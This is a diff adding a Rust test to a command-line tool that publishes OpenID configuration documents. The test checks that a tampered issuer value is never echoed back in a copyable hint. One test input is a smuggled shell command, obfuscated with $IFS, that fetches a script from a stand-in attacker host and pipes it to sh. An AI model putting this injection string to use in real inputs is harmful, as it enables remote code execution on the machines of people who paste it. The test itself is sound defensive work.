@@ -422,3 +422,27 @@ fn unpublish_removes_a_directory_s_documents_and_their_record() {
         assert_eq!(std::fs::read_dir(site.path().join(folder)).unwrap().count(), 0);
     }
 }
+
+/// Whoever can write the document must not write a command that somebody pastes.
+#[test]
+fn an_issuer_of_a_stored_document_is_no_command_to_copy() {
+    let site = TempDir::new().unwrap();
+    let keys = recording("rotation").path("sa.pub").to_str().unwrap().to_owned();
+    let directory = site.path().to_str().unwrap();
+    let publish = command().args(["publish", &keys, "--issuer", ISSUER, "--directory", directory]).output().unwrap();
+    assert!(publish.status.success(), "{publish:?}");
+    let document = site.path().join(".well-known/openid-configuration");
+    let text = std::fs::read_to_string(&document).unwrap();
+    for (issuer, shown) in [
+        ("https://issuer.example.com;curl$IFS-s${IFS}evil.example|sh", "--issuer URL,"),
+        ("https://other.example.com/a", "--issuer https://other.example.com/a,"),
+    ] {
+        let changed = text.replace(&format!("\"issuer\":\"{ISSUER}\""), &format!("\"issuer\":\"{issuer}\""));
+        std::fs::write(&document, changed).unwrap();
+        let output = command().args(["status", "--directory", directory, "--issuer", ISSUER]).output().unwrap();
+        assert_eq!(output.status.code(), Some(1));
+        let told = stderr(&output);
+        let hint = told.lines().find(|line| line.starts_with("hint: ")).unwrap_or_else(|| panic!("{told}"));
+        assert!(hint.contains(shown) && !hint.contains("curl"), "{told}");
+    }
+}
